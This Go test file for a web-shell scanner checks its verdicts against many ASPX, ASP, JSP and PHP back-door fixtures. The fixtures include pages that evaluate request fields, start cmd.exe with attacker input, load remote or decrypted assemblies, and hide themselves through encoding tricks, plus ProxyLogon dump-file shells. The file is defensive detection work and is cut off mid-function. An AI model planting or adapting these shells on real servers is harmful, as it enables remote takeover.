package webfile

import (
	"encoding/base64"
	"strings"
	"testing"
	"unicode/utf16"

	"postern"
)

// The shapes of exchange-related back doors and others, each with what it must not
// be taken for. "site" is an ordinary folder of a web site, "auth" one in which
// only the product's pages belong.
const (
	site = "inetpub/wwwroot/shop/"
	auth = "frontend/httpproxy/owa/auth/"
	root = "inetpub/wwwroot/aspnet_client/"
)

type shape struct {
	name, server, content, want string
}

func check(t *testing.T, shapes []shape) {
	t.Helper()
	for _, s := range shapes {
		t.Run(s.name, func(t *testing.T) {
			t.Parallel()
			findings := lookAt(t, s.server, fixture(s.content))
			if got := summary(findings); got != s.want {
				t.Errorf("%s: got %q, want %q", s.server, got, s.want)
				for _, f := range findings {
					for _, e := range f.Explain {
						t.Logf("  %s %v", e.Key, e.Args)
					}
				}
			}
		})
	}
}

const high, medium, level1, none = "webshell 4 high", "webshell 4 medium", "webshell 1 low", ""

func TestPagesOfASPNET(t *testing.T) {
	t.Parallel()
	check(t, []shape{
		{"evaluates a field", site + "a.aspx", `‹@ «PAGE» Language="«JS»"›‹«EVAL»(«REQ».Item["k"],"«UNSAFE»");›`, high},
		{"evaluates by a name", site + "a.aspx", "‹@ «PAGE» Language=«JS»›‹var p : String = «REQ»[\"k\"];\n«EVAL»(p);›", high},
		{"evaluates a header", site + "a.aspx", `‹@ «PAGE» Language="«JS»"›‹«EVAL»(«REQ».Headers["X"], "«UNSAFE»");›`, high},
		{"evaluates what a function gives", site + "a.aspx", `‹@ «PAGE» Language="«JS»"›<«SCRIPT» «RUNAT» language="«JS»">function d(s){ return s.split("").reverse().join(""); }</«SCRIPT»>‹«EVAL»(d(«REQ»["k"]));›`, high},
		{"starts a process with a field", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.Diagnostics.«START»("cmd.exe", "/c " + «REQ».QueryString["c"]); ›`, high},
		{"starts a process with a text box", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT» «RUNAT»>void Run(object s, EventArgs e) { «PSI» p = new «PSI»(); p.FileName = "cmd.exe"; p.Arguments = "/c " + box.Text; «START»(p); }</«SCRIPT»><asp:TextBox id="box" «RUNAT» />`, high},
		{"starts a process in Basic", site + "a.aspx", "‹@ «PAGE» Language=\"VB\" ›\n‹\nDim p As New System.Diagnostics.Process()\np.StartInfo.FileName = \"cmd.exe\"\np.StartInfo.Arguments = \"/c \" & «REQ».Form(\"c\")\np.Start()\n›", high},
		{"Basic over several lines", site + "a.aspx", "‹@ «PAGE» Language=\"VB\" ›\n‹\nDim x As String = _\n  «REQ» _\n  .Form(\"c\")\nShell(\"cmd /c \" & x)\n›", high},
		{"a shell object", site + "a.aspx", `‹=CreateObject("«SHELL»").ex` + `ec(«REQ».Form("a")).StdOut.ReadAll›`, high},
		{"loads an assembly", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ byte[] b = «REQ».BinaryRead(int.Parse(«REQ».Cookies["n"].Value)); System.Reflection.«LOAD»(b).CreateInstance("U"); ›`, high},
		{"loads what is decrypted", site + "a.ashx", `‹@ WebHandler Language="C#" Class="H" ›public class H : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext context) { byte[] data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(System.Convert.FromBase64String(context.«REQ»["p"]), 0, 9); ((System.Reflection.Assembly) typeof(System.Reflection.Assembly).GetMethod("Load").Invoke(null, new object[] { data })).ToString(); } }`, high},
		{"writes a file that the request names", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.IO.File.WriteAllText(«REQ»["p"], «REQ»["f"]); ›`, high},
		{"keeps an upload under a name of the request", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ if («REQ».Files.Count != 0) { «REQ».Files[0].«SAVE»(Server.MapPath(«REQ»["f"])); } ›`, high},
		{"runs a style sheet from the request", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var x = new System.Xml.Xsl.XslCompiledTransform(); x.Load(System.Xml.XmlReader.Create(new System.IO.StringReader(«REQ»["x"])), System.Xml.Xsl.XsltSettings.TrustedXslt, null); ›`, high},
		{"makes objects of the request", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ new System.Web.UI.LosFormatter().Deserialize(«REQ».Form["d"]); ›`, high},
		{"compiles the request", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFromSource(o, «REQ»["s"]); ›`, high},
		{"opens a connection", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ String t = «REQ».QueryString.Get("target"); var s = new System.Net.Sockets.Socket(a, b, c); s.Connect(new IPEndPoint(IPAddress.Parse(t), 80)); ›`, high},
		{"a service method", site + "a.asmx", `‹@ WebService Language="C#" Class="S" ›public class S { [WebMethod] public string Run(string c) { var p = new System.Diagnostics.«PSI»("cmd.exe", c); return System.Diagnostics.«START»(p).ToString(); } }`, high},
		{"a database of the sender's choice", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var c = new SqlConnection(«REQ»["conn"]); var q = new SqlCommand(«REQ»["sql"], c); ›`, high},
		{"what is asked of a database of the sender's choice", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT» «RUNAT»>void Q(object s, EventArgs e) { var c = new SqlConnection("server=" + host.Text); var a = new SqlDataAdapter("select * from " + table.SelectedValue, c); a.Fill(set); }</«SCRIPT»><asp:TextBox id="host" «RUNAT»/><asp:DropDownList id="table" «RUNAT»/>`, medium},
		{"a database that runs commands", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var c = new SqlConnection(settings); var q = new SqlCommand("ex" + "ec xp_cmd" + "shell '" + «REQ»["c"] + "'", c); ›`, medium},
		{"makes a tree of objects of the request", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.Windows.Markup.XamlReader.Parse(«REQ»["x"]); ›`, high},
		{"makes objects of any type of the request", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var s = new JavaScriptSerializer(new SimpleTypeResolver()); s.Deserialize<object>(«REQ»["x"]); ›`, high},
		{"hands the request to PowerShell as an argument", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var p = PowerShell.Create(); p.AddCommand("x").AddArgument(«REQ»["c"]); ›`, high},
		{"calls by name", site + "a.aspx", "‹@ «PAGE» Language=\"VB\" ›‹\nCallByName(o, \"Run\", 1, «REQ»(\"c\"))\n›", high},
		{"makes a function of the request", site + "a.aspx", `‹@ «PAGE» Language="«JS»"›‹ Function(«REQ»["x"])(); ›`, high},
		{"names the evaluator in brackets", site + "a.aspx", `‹@ «PAGE» Language="«JS»"›‹ this["ev"+"al"](«REQ»["x"]); ›`, high},
		{"starts what the address says", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.Diagnostics.«START»("cmd.exe", "/c " + «REQ».Url.Query); ›`, high},
		{"starts what a box of the code's own says", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT» «RUNAT»>void Run(object s, EventArgs e) { var b = (TextBox)FindControl("b"); System.Diagnostics.«START»("cmd.exe", "/c " + b.Text); }</«SCRIPT»>`, high},
		{"starts what a list says", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT» «RUNAT»>void Run(object s, EventArgs e) { System.Diagnostics.«START»("cmd.exe", "/c " + pick.SelectedItem.Value); }</«SCRIPT»><asp:ListBox id="pick" «RUNAT»/>`, high},
		{"shows what a fixed command says", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var p = new Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c whoami"; p.Start(); Response.Write(p.StandardOutput.ReadToEnd()); ›`, medium},
		{"a process that talks to a machine", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var c = new TcpClient("192.0.2.1", 443); var p = new Process(); p.StartInfo.FileName = shell; p.Start(); ›`, high},
		{"loads what lies elsewhere", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ byte[] b = new System.Net.WebClient().DownloadData("http://192.0.2.1/a"); System.Reflection.«LOAD»(b).EntryPoint.ToString(); ›`, medium},
		{"loads what is decrypted, by what it makes of words", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT» «RUNAT»>delegate System.Reflection.Assembly Taker(byte[] b); string Turn(string s) { var c = s.ToCharArray(); System.Array.Reverse(c); return new string(c); } void Go(HttpContext x) { var d = cipher.CreateDecryptor(k, k).TransformFinalBlock(Convert.FromBase64String(x.«REQ»[Turn("p")]), 0, 9); var m = typeof(System.Reflection.Assembly).GetMethod(Turn("da" + "oL"), t); var take = (Taker)Delegate.CreateDelegate(typeof(Taker), m); take(d); ` + strings.Repeat("Log(a, b, c); ", 25) + `}</«SCRIPT»>`, medium},
		{"serves pages that are no files", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new Ghost(«REQ»["p"])); ›`, high},
		{"answers by itself", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var l = new System.Net.HttpListener(); l.Prefixes.Add("http://*:80/x/"); l.Start(); ›`, medium},
		{"a key of the registry that the request names", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var k = Registry.LocalMachine.OpenSubKey(«REQ»["k"]); Response.Write(k.GetValue("")); ›`, medium},
		{"searches the registry", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ foreach (var h in new[] { Registry.ClassesRoot, Registry.CurrentUser, Registry.LocalMachine, Registry.Users }) foreach (var n in h.GetSubKeyNames()) Response.Write(n); ›`, medium},
		{"all drives of the server", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ foreach (var d in Environment.GetLogicalDrives()) Response.Write(d); foreach (var f in new System.IO.DirectoryInfo(«REQ»["d"]).GetFiles()) Response.Write(f.Name); ›`, medium},
		{"lists and sends files of the sender's choice", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ if («REQ»["d"] != null) foreach (var f in System.IO.Directory.GetFiles(«REQ»["d"])) Response.Write(f); Response.WriteFile(«REQ»["f"]); ›`, medium},
		{"keeps an upload in a folder of the sender's choice", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT» «RUNAT»>void Keep(object s, EventArgs e) { up.«SAVE»(System.IO.Path.Combine(folder.Text, up.FileName)); ` + strings.Repeat("Log(a, b, c); ", 20) + `}</«SCRIPT»><asp:TextBox id="folder" «RUNAT»/><asp:FileUpload id="up" «RUNAT»/>`, medium},
		{"keeps an upload beside itself for a password", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT» «RUNAT»>const string Secret = "x1"; void Keep(object s, EventArgs e) { if («REQ».Params["authkey"] != Secret) return; var own = new System.IO.FileInfo(«REQ».PhysicalPath); up.«SAVE»(System.IO.Path.Combine(own.DirectoryName, up.FileName)); }</«SCRIPT»><asp:FileUpload id="up" «RUNAT»/>`, medium},
		{"does nothing but write a page", site + "a.ashx", `‹@ WebHandler Language="C#" Class="H" ›public class H { public void ProcessRequest(HttpContext c) { var f = System.IO.File.CreateText(c.Server.MapPath("x.aspx")); f.Write("x"); } }`, medium},
		{"hands a coded reading of the request to a function", site + "a.aspx", `‹ open(open(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("` + base64.StdEncoding.EncodeToString([]byte(fixture("«REQ».Item[\"k\"]"))) + `")))); ›`, medium},
		{"shows the keys of sessions", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var s = (System.Web.Configuration.MachineKeySection) x; Response.Write(s.ValidationKey + s.DecryptionKey); ›`, medium},
		{"brings machine code", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT» «RUNAT»>[DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr b, int c, int d); [DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr b, IntPtr c);</«SCRIPT»>`, medium},
		{"inside a picture", site + "a.aspx", `GIF89a‹@ «PAGE» Language="«JS»"›‹«EVAL»(x);›`, high},
		{"overwrites global.asax", site + "global.asax", `‹@ Application Language="C#"›<«SCRIPT» «RUNAT»>void Application_BeginRequest(object s, EventArgs e) { System.Diagnostics.«START»("cmd", «REQ»["c"]); }</«SCRIPT»>`, high},

		{"a process with a command of its own", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.Diagnostics.«START»("iisreset.exe"); ›`, level1},
		{"an upload form", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var f = «REQ».Files[0]; if (System.IO.Path.GetExtension(f.FileName) == ".jpg") f.«SAVE»(Server.MapPath("~/pictures/") + System.IO.Path.GetFileName(f.FileName)); ›`, none},
		{"a folder from the request", site + "a.ashx", `‹@ WebHandler Language="C#" Class="U" ›public class U : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext context) { var f = context.«REQ».Files["Filedata"]; string dir = context.Server.MapPath(context.«REQ»["folder"]); if (!System.IO.Directory.Exists(dir)) System.IO.Directory.CreateDirectory(dir); string ext = System.IO.Path.GetExtension(f.FileName); f.«SAVE»(dir + "\\" + System.Guid.NewGuid() + ext); context.Response.Write("1"); } public bool IsReusable { get { return false; } } }`, none},
		{"a setup program", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var c = new SqlConnection("server=" + «REQ»["host"] + ";uid=" + «REQ»["user"]); foreach (string s in parts) { var q = new SqlCommand(s, c); q.ExecuteNonQuery(); } ›`, none},
		{"a key of the registry by name", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var k = Registry.LocalMachine.OpenSubKey("SOFTWARE\\Microsoft\\NET Framework Setup\\NDP"); foreach (var n in k.GetSubKeyNames()) Response.Write(n + «REQ»["q"]); ›`, none},
		{"the type of an object by name", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var x = new XmlSerializer(typeof(Order)); var o = Type.GetTypeFromProgID("Word.Application"); Response.Write(«REQ»["q"]); ›`, none},
		{"a file of the site that is moved", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.IO.File.Move(Server.MapPath(«REQ»["a"]), Server.MapPath(«REQ»["b"])); ›`, none},
		{"files of a folder of the site", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ foreach (var f in System.IO.Directory.GetFiles(Server.MapPath("~/docs/" + «REQ»["d"]))) Response.Write(f); Response.WriteFile(Server.MapPath("~/docs/" + «REQ»["f"])); ›`, none},
		{"a box that is handed to the code", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT» «RUNAT»>void Changed(object sender, EventArgs e) { TextBox b = sender as TextBox; MethodInfo m = property.GetSetMethod(); m.Invoke(tabs, new object[] { b.Text }); }</«SCRIPT»>`, none},
		{"a download that is timed", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var w = new System.Diagnostics.Stopwatch(); w.Start(); var s = new System.Net.WebClient().DownloadString("http://192.0.2.1/"); Response.Write(w.Elapsed); ›`, none},
		{"a cookie that is decrypted", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var d = cipher.CreateDecryptor(k, k).TransformFinalBlock(Convert.FromBase64String(«REQ».Cookies["c"].Value), 0, 9); var v = System.Reflection.Assembly.GetExecutingAssembly().GetName().Version; Response.Write(v); ›`, none},
		{"functions written out", site + "a.aspx", `‹@ «PAGE» Language="«JS»"›<«SCRIPT» «RUNAT» language="«JS»">var f = function(a, b) { return a + b; }; function g(x) : String { return x; } Response.Write(f(«REQ»["a"], "1"));</«SCRIPT»>`, none},
		{"data binding", site + "a.aspx", `‹@ «PAGE» Language="C#" Inherits="Shop.List" CodeBehind="List.aspx.cs" ›<asp:Repeater «RUNAT»>‹# «EVAL»("Name") ›‹# «EVAL»("Price", "{0:c}") ›</asp:Repeater>`, none},
		{"a request to somewhere else", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ HttpWebRequest request = (HttpWebRequest) WebRequest.Create("https://example.com/"); request.Method = "GET"; var r = request.GetResponse(); ›`, none},
		{"a log of the sender's address", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.IO.File.AppendAllText(Server.MapPath("~/log.txt"), «REQ».UserHostAddress + «REQ»["q"]); ›`, none},
		{"a file shown to the visitor", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var s = new System.IO.FileStream(«REQ»["p"], System.IO.FileMode.Open, System.IO.FileAccess.Read); ›`, none},
		{"a number from the request", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ int n = int.Parse(«REQ»["n"]); System.Diagnostics.Process p = null; p.WaitForExit(n); ›`, none},
		{"words in text", site + "a.aspx", `‹@ «PAGE» Language="C#"›<p>Call «START»(«REQ»["c"]) to start a process, «EVAL»(«REQ»["x"]) to evaluate.</p>‹=DateTime.Now›`, none},
		{"words in a comment", site + "a.aspx", "‹@ «PAGE» Language=\"C#\"›‹-- «EVAL»(«REQ»[\"k\"]) --›‹ // «START»(«REQ»[\"c\"])\n /* «LOAD»(«REQ».BinaryRead(1)) */ Response.Write(1); ›", none},
		{"script of the browser", site + "a.aspx", `‹@ «PAGE» Language="C#"›<«SCRIPT»>«EVAL»(location.hash.substr(1)); new Function(x)();</«SCRIPT»>`, none},
		{"queries with parameters", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ var c = new SqlConnection(ConfigurationManager.AppSettings["db"]); var q = new SqlCommand("select * from t where id=" + «REQ»["id"], c); ›`, none},
	})
}

func TestPagesOfOtherEngines(t *testing.T) {
	t.Parallel()
	check(t, []shape{
		{"asp: evaluates", site + "a.asp", `‹«EVAL» «req»("k")›`, high},
		{"asp: executes", site + "a.asp", "‹\n«EXEC»Global «REQ»(\"k\")\n›", high},
		{"asp: by pieces", site + "a.asp", `‹ x = "ev" & "al(requ" & "est(""k""))" : «EXEC»(x) ›`, high},
		{"asp: starts", site + "a.asp", "‹Set w = Server.CreateObject(\"W\" & \"Script.Shell\")\nw.Run \"cmd /c \" & «REQ»(\"c\"), 0›", high},
		{"asp: an object by class", site + "a.asp", `<object «RUNAT» id="sh" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>‹ sh.Run(«REQ»("c")) ›`, high},
		{"asp: script control", site + "a.cer", `‹ Set m = CreateObject("MSScriptControl.ScriptControl.1") : m.ExecuteStatement("ev"&"al(requ"&"est(""k""))") ›`, high},
		{"asp: JScript", site + "a.asp", `‹@ language="«JS»"›‹«EVAL»(«REQ»("k")+"");›`, high},
		{"jsp: runs", site + "a.jsp", `‹ «RUNTIME»(request.«PARAM»("c")); ›`, high},
		{"jsp: by names", site + "a.jsp", `‹@page import="java.util.*"›‹ String c = request.«PARAM»("c"); Process p = «RUNTIME»(new String[]{"cmd", "/c", c}); ›`, high},
		{"jspx with entities", site + "a.jspx", `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>Run&#116;ime.getRun` + `time().ex` + `ec(request.«PARAM»(&quot;c&quot;));</jsp:scriptlet></jsp:root>`, high},
		{"jsp: defines classes", site + "a.jsp", `‹! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } ›‹ new U().g(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine())).newInstance(); ›`, high},
		{"php: evaluates", site + "a.php", `«PHP» @ev` + `al(«POST»['k']); ?>`, high},
		{"php: runs", site + "a.php", `«PHP» «SYSTEM»($_GET["c"]); ?>`, high},
		{"php: calls by name", site + "a.php", `«PHP» $f = "as" . "se" . "rt"; $f(«POST»['k']);`, high},
		{"php: hands to a callback", site + "a.php", `«PHP» array_map("as" . "sert", (array) «POST»['k']);`, high},
		{"php: in back quotes", site + "a.php", "«PHP» echo `ls {$_GET['d']}`;", high},
		{"php: decodes", site + "a.php", `«PHP» ev` + `al(base64_decode("` + base64.StdEncoding.EncodeToString([]byte(fixture(`«SYSTEM»(«POST»["k"]);`))) + `"));`, high},

		{"asp: a recordset", site + "a.asp", "‹Set c = Server.CreateObject(\"ADODB.Connection\")\nc.«EXEC» \"select \" & CInt(«REQ»(\"id\"))\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")›", none},
		{"jsp: a form", site + "a.jsp", `‹ String n = request.«PARAM»("n"); out.println(n); ›`, none},
		{"php: a form", site + "a.php", `«PHP» if (isset(«POST»['n'])) { echo htmlspecialchars(«POST»['n']); $x = array_map('trim', «POST»); mail($to, $s, «POST»['t']); } ?>`, none},
		{"php: a function that exists", site + "a.php", `«PHP» if (function_exists('ex` + `ec')) { $a = array_filter($_GET, 'strlen'); } ?>`, none},
	})
}

// dump is what Exchange writes when a virtual directory is reset.
func dump(external string) string {
	lines := []string{
		"Name                            : OAB (Default Web Site)",
		"PollInterval                    : 480",
		"MetabasePath                    : IIS://ex01.example.test/W3SVC/1/ROOT/OAB",
		"ExtendedProtectionTokenChecking : None",
		"ExtendedProtectionFlags         : {}",
		"AdminDisplayVersion             : Version 15.1 (Build 2106.2)",
		"Server                          : EX01",
		"InternalUrl                     : https://ex01.example.test/OAB",
		"InternalAuthenticationMethods   : WindowsIntegrated",
		"ExternalUrl                     : " + external,
		"ObjectClass                     : top",
		"                                  msExchVirtualDirectory",
		"                                  msExchOABVirtualDirectory",
		"WhenChanged                     : 3/3/2021 7:49:43 AM",
		"WhenChangedUTC                  : 3/3/2021 6:49:43 AM",
		"OriginatingServer               : dc01.example.test",
		"IsValid                         : True",
	}
	return "\r\n" + strings.Join(lines, "\r\n") + "\r\n"
}

func TestDumps(t *testing.T) {
	t.Parallel()
	script := func(body string) string {
		return dump(`http://f/<«SCRIPT» language="«JS»" «RUNAT»>function ` + "Pa" + `ge_Load(){` + body + `}</«SCRIPT»>`)
	}
	const shell = "oab-dump-shell 4 high"
	check(t, []shape{
		{"evaluates", root + "x.aspx", script(`«EVAL»(«REQ»["klk"],"«UNSAFE»");`), shell},
		{"evaluates in pieces", auth + "x.aspx", script(`«EVAL»(«REQ»["klk"],"un"+"safe");`), shell},
		{"hidden in a list", auth + "x.aspx", script(`var _0x1=["\x52\x65\x71","\x6b"];«EVAL»(«REQ»[_0x1[1]]);`), shell},
		{"writes", auth + "x.aspx", script(`var f=new System.IO.StreamWriter(«REQ».Form["p"]);f.Write(«REQ».Form["f"]);f.Close();`), shell},
		{"uploads", auth + "x.aspx", script(`«REQ».Files[0].«SAVE»(Server.MapPath("x"));`), shell},
		{"in no language", auth + "x.aspx", dump(`http://f/<«SCRIPT» language="x-inert" «RUNAT»>@@BODY@@</«SCRIPT»>`), shell},
		{"in a folder that nobody knows", "d/export/x.aspx", script(`«EVAL»(«REQ»["k"]);`), shell},
		{"a page without markup", root + "x.aspx", dump("http://f/"), "unexpected-page 1 low"},
		{"a page without markup, elsewhere", site + "x.aspx", dump("http://f/"), "directory-dump 0 low"},
		{"saved to look at it", root + "oab.txt", dump("https://mail.example.test/OAB"), none},
		{"markup saved to look at it", root + "oab.txt", script(`«EVAL»(«REQ»["k"]);`), "directory-dump 0 low"},
	})

	f := lookAt(t, auth+"x.aspx", fixture(script(`«EVAL»(«REQ»["klk"],"un"+"safe");`)))[0]
	for name, want := range map[string]string{
		postern.VDir: "OAB (Default Web Site)", Build: "15.1.2106.2", Server: "EX01", postern.ShellParameter: "klk", Variant: "eval",
		postern.File: auth + "x.aspx", postern.URL: "/owa/auth/x.aspx",
	} {
		if got := f.Entities[name]; got != want {
			t.Errorf("entity %s: got %q, want %q", name, got, want)
		}
	}
	if f.Campaign != "proxylogon" || len(f.CVE) != 1 || f.CVE[0] != "CVE-2021-27065" {
		t.Errorf("campaign %q, CVEs %v", f.Campaign, f.CVE)
	}
	if got := f.Time.Format("2006-01-02 15:04:05"); got != "2021-03-03 06:49:43" {
		t.Errorf("time %s is not that of the dump", got)
	}
	if f.HasTag(TagFileTime) || !f.HasTag(TagShellFile) {
		t.Errorf("tags %v", f.Tags)
	}
	if got := f.Evidence[0].Line; got != 11 {
		t.Errorf("markup on line %d, want 11", got)
	}
	variants := map[string]string{
		`var f=new System.IO.StreamWriter(«REQ».Form["p"]);f.Write(«REQ».Form["f"]);`: "file-writer",
		`«REQ».Files[0].«SAVE»(«REQ»["p"]);`:                                          "upload",
	}
	for body, want := range variants {
		f := lookAt(t, auth+"x.aspx", fixture(script(body)))[0]
		if got := f.Entities[Variant]; got != want {
			t.Errorf("variant of %s: got %q, want %q", body, got, want)
		}
	}
}

func TestOtherFormats(t *testing.T) {
	t.Parallel()
	noise := strings.Repeat("\x01\x7f\x00\x9c\xfe%<a\x03", 3000)
	check(t, []shape{
		{"mailbox with a page", root + "570221043.aspx", "!BDN" + noise + `<«SCRIPT» language="«JS»" «RUNAT»>«EVAL»(«REQ»["k"]);</«SCRIPT»>` + noise, "mailbox-export-shell 4 high"},
		{"mailbox with a page that does little", root + "a.aspx", "!BDN" + noise + `‹@ «PAGE» Language="C#"›‹= 1 ›` + noise, "mailbox-export-shell 4 high"},
		{"mailbox whose code is coded", root + "a.aspx", "!BDN" + noise, "mailbox-export-shell 4 medium"},
		{"certificate request with a page", auth + "a.aspx", "\x30\x82\x05\x10\x30\x82" + `‹@ «PAGE» Language="«JS»"›‹«EVAL»(«REQ»["k"]);›` + "\x02\x01", "certificate-request-shell 4 high"},
		{"a certificate", root + "company.cer", "\x30\x82\x05\x10\x30\x82\x03\xf8\xa0\x03\x02\x01\x02\x02" + noise[:900], "unexpected-page 1 low"},
		{"a certificate of a site", site + "company.cer", "\x30\x82\x05\x10\x30\x82\x03\xf8\xa0\x03\x02\x01\x02\x02" + noise[:900], none},
		{"a mailbox", site + "a.pst", "!BDN" + noise, none},
	})
}

func TestHiding(t *testing.T) {
	t.Parallel()
	b64 := base64.StdEncoding.EncodeToString([]byte(fixture("«REQ».Item[\"k\"]")))
	check(t, []shape{
		{"comments between words", site + "a.aspx", `‹@ «PAGE» Language="«JS»"›‹ev` + `al/*-/*-*/(/*-/*-*/Request/**/[/**/"k"/**/]/**/,/**/"un"+/**/"safe");›`, high},
		{"escapes in names", site + "a.aspx", `‹@ «PAGE» Language="«JS»"›‹\u0065v\u0061l(R\u0065quest.\u0049tem["k"]);›`, high},
		{"escapes in strings", site + "a.aspx", `‹@ «PAGE» LANGUAGE=«JS»›‹var P:String=«REQ»["\x61\x62"];ev` + `al(P,"\x75\x6E\x73\x61"+"\x66\x65");›`, high},
		{"characters that cannot be seen", site + "a.aspx", "‹@ «PAGE» Language=\"C#\"›‹ System.Diagnostics.Pro\u200dcess.St\u200dart(\"cmd\", Req\u00aduest[\"c\"]); ›", high},
		{"names in brackets", site + "a.aspx", "‹@ «PAGE» Language=\"VB\"›‹\nSystem.Diagnostics.[Process].[Start](\"cmd\", [Request](\"c\"))\n›", high},
		{"names with @", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.Diagnostics.@Process.@Start("cmd", @Request["c"]); ›`, high},
		{"the whole in a string", site + "a.aspx", `‹@ «PAGE» Language="«JS»"›‹var P="e"+"v"+"a"+"l"+"("+"R"+"e"+"q"+"u"+"e"+"s"+"t"+"["+"0"+"-"+"2"+"]"+")";ev` + `al(P);›`, high},
		{"the request in base64", site + "a.aspx", `<«SCRIPT» «RUNAT» language="«JS»">function p(s){var b=ev` + `al(s,"un"+"safe");return b;}</«SCRIPT»>‹p(p(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("` + b64 + `"))));›`, high},
		{"reversed", site + "a.asp", "‹Function D(c)\nD=Replace(StrReverse(c),\"/*/\",\"\"\"\")\nEnd Function\nEx" + "ecute D(\")/*/k/*/(tseuqer lave\")›", medium},
		{"character codes", site + "a.asp", `‹ex` + `ecute(Chr(101)&Chr(118)&Chr(97)&Chr(&H6C)&Chr(40)&"req"&"uest(0))")›`, high},
		{"reflection with words in strings", site + "a.aspx", `‹@ «PAGE» Language="C#"›‹ System.Type.GetType("System.Diagnos" + "tics.Pro" + "cess").GetMethod("Sta" + "rt", t).Invoke(null, new object[] { «REQ»["c"] }); ›`, high},
		{"in capitals", site + "A.ASPX", `‹@ PAGE LANGUAGE="JSCR` + `IPT"›‹EV` + `AL(REQUEST["K"]);›`, high},
		{"a space before the directive", site + "a.aspx", `‹ @PAGE Language="«JS»"›‹«EVAL»(«REQ»["k"]);›`, high},
	})
}

// encoded gives a text in an encoding that engines accept.
var encodings = map[string]func(string) string{
	"utf-8":         func(s string) string { return s },
	"utf-8 mark":    func(s string) string { return "\xef\xbb\xbf" + s },
	"utf-16le mark": func(s string) string { return "\xff\xfe" + wideText(s, false) },
	"utf-16be mark": func(s string) string { return "\xfe\xff" + wideText(s, true) },
	"utf-16le":      func(s string) string { return wideText(s, false) },
	"utf-16be":      func(s string) string { return wideText(s, true) },
	"ansi":          func(s string) string { return "\xc3\xdc\xc2\xeb\r\n" + s },
	"ibm037":        toEBCDIC,
}

func wideText(s string, big bool) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune(s)) {
		if big {
			b.WriteByte(byte(u >> 8))
			b.WriteByte(byte(u))
		} else {
			b.WriteByte(byte(u))
			b.WriteByte(byte(u >> 8))
		}
	}
	return b.String()
}

func TestEncodings(t *testing.T) {
	t.Parallel()
	page := fixture("‹@ «PAGE» Language=\"«JS»\"›\r\n<p>\r\n‹«EVAL»(«REQ»[\"k\"]);›\r\n")
	for name, encode := range encodings {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			raw := encode(page)
			findings := lookAt(t, site+"a.aspx", raw)
			if got := summary(findings); got != high {
				t.Fatalf("got %q, want %q", got, high)
			}
			e := findings[0].Evidence[0]
			want := encode(fixture("«EVAL»"))
			want = strings.TrimPrefix(strings.TrimPrefix(strings.TrimPrefix(want, "\xef\xbb\xbf"), "\xff\xfe"), "\xfe\xff")
			want = strings.TrimPrefix(want, "\xc3\xdc\xc2\xeb\r\n")
			if !strings.HasPrefix(raw[e.Offset:], want) {
